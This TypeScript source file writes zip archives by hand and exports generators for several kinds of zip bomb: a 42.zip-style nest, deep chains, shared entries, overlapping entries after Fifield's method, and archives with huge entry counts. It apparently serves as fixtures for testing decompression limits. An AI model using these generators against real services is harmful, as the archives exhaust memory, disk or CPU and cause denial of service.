/** Zip files that are small and want to become large: nests, entries that lie over one another, and more entries than anybody counts. */
import { crc32, deflateRawSync } from 'node:zlib'

interface Entry {
  readonly name: string
  readonly method: 0 | 8
  readonly packed: Uint8Array
  readonly crc: number
  readonly size: number
}

/** APPNOTE 4.3.7 to 4.3.16, without a date. */
function localHeader({ name, method, packed, crc, size }: Entry): Buffer {
  const head = Buffer.alloc(30 + name.length)
  head.writeUInt32LE(0x04034b50, 0)
  head.writeUInt16LE(20, 4)
  head.writeUInt16LE(method, 8)
  head.writeUInt32LE(crc, 14)
  head.writeUInt32LE(packed.length, 18)
  head.writeUInt32LE(size, 22)
  head.writeUInt16LE(name.length, 26)
  head.write(name, 30, 'latin1')
  return head
}

function directory(entries: readonly { readonly entry: Entry; readonly at: number }[], startsAt: number): Buffer {
  const records = entries.map(({ entry, at }) => {
    const record = Buffer.alloc(46 + entry.name.length)
    record.writeUInt32LE(0x02014b50, 0)
    record.writeUInt16LE(20, 4)
    record.writeUInt16LE(20, 6)
    record.writeUInt16LE(entry.method, 10)
    record.writeUInt32LE(entry.crc, 16)
    record.writeUInt32LE(entry.packed.length, 20)
    record.writeUInt32LE(entry.size, 24)
    record.writeUInt16LE(entry.name.length, 28)
    record.writeUInt32LE(at, 42)
    record.write(entry.name, 46, 'latin1')
    return record
  })
  const size = records.reduce((sum, { length }) => sum + length, 0)
  const end = Buffer.alloc(22)
  end.writeUInt32LE(0x06054b50, 0)
  end.writeUInt16LE(entries.length, 8)
  end.writeUInt16LE(entries.length, 10)
  end.writeUInt32LE(size, 12)
  end.writeUInt32LE(startsAt, 16)
  return Buffer.concat([...records, end])
}

export function zipOf(files: readonly { readonly name: string; readonly content: Uint8Array }[]): Buffer {
  const parts: Buffer[] = []
  const placed: { entry: Entry; at: number }[] = []
  let at = 0
  /** Most of these hold the same file again and again. */
  const packedOf = new Map<Uint8Array, Omit<Entry, 'name'>>()
  for (const { name, content } of files) {
    const body = packedOf.get(content) ?? {
      method: 8,
      packed: deflateRawSync(content, { level: 9 }),
      crc: crc32(content),
      size: content.length,
    }
    packedOf.set(content, body)
    const entry: Entry = { name, ...body }
    const whole = Buffer.concat([localHeader(entry), entry.packed])
    parts.push(whole)
    placed.push({ entry, at })
    at += whole.length
  }
  return Buffer.concat([...parts, directory(placed, at)])
}

/** As 42.zip: sixteen zips in each of sixteen zips, five deep, and a large file of one letter in each of the innermost. */
export function nestOfZips(megabytes: number): Buffer {
  let inner = zipOf([{ name: '0.txt', content: Buffer.alloc(megabytes * 1024 * 1024, 0x30) }])
  for (let level = 0; level < 5; level += 1) {
    const content = inner
    inner = zipOf(Array.from({ length: 16 }, (_, at) => ({ name: `lib ${at.toString(16)}.zip`, content })))
  }
  return inner
}

/** Nothing but one zip in another, far beyond any limit. */
export function chainOfZips(depth: number): Buffer {
  let inner: Buffer = Buffer.from('the end')
  for (let level = 0; level < depth; level += 1) inner = zipOf([{ name: `${level}.zip`, content: inner }])
  return inner
}

/** Every entry of the directory names the same bytes. */
export function sharedEntries(count: number, megabytes: number): Buffer {
  const content = Buffer.alloc(megabytes * 1024 * 1024)
  const packed = deflateRawSync(content, { level: 9 })
  const file = { method: 8, packed, crc: crc32(content), size: content.length } as const
  const named = (at: number): Entry => ({ ...file, name: at.toString(36).padStart(4, '0') })
  const kernel = Buffer.concat([localHeader(named(0)), packed])
  return Buffer.concat([
    kernel,
    directory(
      Array.from({ length: count }, (_, at) => ({ entry: named(at), at: 0 })),
      kernel.length,
    ),
  ])
}

/**
 * Entries that lie over one another with a header of their own each (D. Fifield, "A better zip bomb", 2019): the data of each begins with a
 * stored block (RFC 1951 3.2.4) that quotes the header of the next, and goes on with the data of that.
 */
export function quotedEntries(count: number, megabytes: number): Buffer {
  const content = Buffer.alloc(megabytes * 1024 * 1024)
  let data = deflateRawSync(content, { level: 9 })
  let whole: Buffer = content
  const headers: { entry: Entry; header: Buffer }[] = []
  for (let at = count - 1; at >= 0; at -= 1) {
    const entry: Entry = { name: at.toString(36).padStart(4, '0'), method: 8, packed: data, crc: crc32(whole), size: whole.length }
    const header = localHeader(entry)
    headers.unshift({ entry, header })
    if (at === 0) break
    const stored = Buffer.from([0, header.length, 0, ~header.length & 0xff, 0xff])
    data = Buffer.concat([stored, header, data])
    whole = Buffer.concat([header, whole])
  }
  const first = headers[0]!
  const file = Buffer.concat([first.header, first.entry.packed])
  let at = 0
  const placed = headers.map(({ entry, header }) => {
    const here = at
    at += header.length + 5
    return { entry, at: here }
  })
  return Buffer.concat([file, directory(placed, file.length)])
}

export function manyEntries(count: number): Buffer {
  const content = Buffer.from('x')
  return zipOf(Array.from({ length: count }, (_, at) => ({ name: `${at}.txt`, content })))
}
